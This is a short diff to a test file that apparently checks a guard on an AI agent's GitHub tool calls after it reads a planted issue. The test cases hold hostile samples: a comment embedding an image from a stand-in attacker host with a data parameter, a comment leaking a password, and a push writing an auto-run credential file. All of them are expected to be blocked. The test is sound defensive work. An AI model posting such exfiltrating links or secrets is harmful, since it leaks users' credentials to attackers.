@@ -96,7 +96,7 @@ async def test_the_planted_issue_gets_only_the_plain_comment(
         # asked as the auto-run file it writes, not only as a push (the audit record names
         # the argument)
         _blocked(await gh.call_tool("push_files", hook), "action.credential_write")
-        img = {**repo, "issue_number": 7, "body": "Build: ![b](https://img.evilcdn.net/b.png)"}
+        img = {**repo, "issue_number": 7, "body": "Build: ![b](https://img.evilcdn.net/b.png?d=7)"}
         _blocked(await gh.call_tool("add_issue_comment", img), "taint.rendered_resource")
         leak = {**repo, "issue_number": 7, "body": f"The password is {PASSWORD}"}
         text = _blocked(await gh.call_tool("add_issue_comment", leak), "secret.egress")
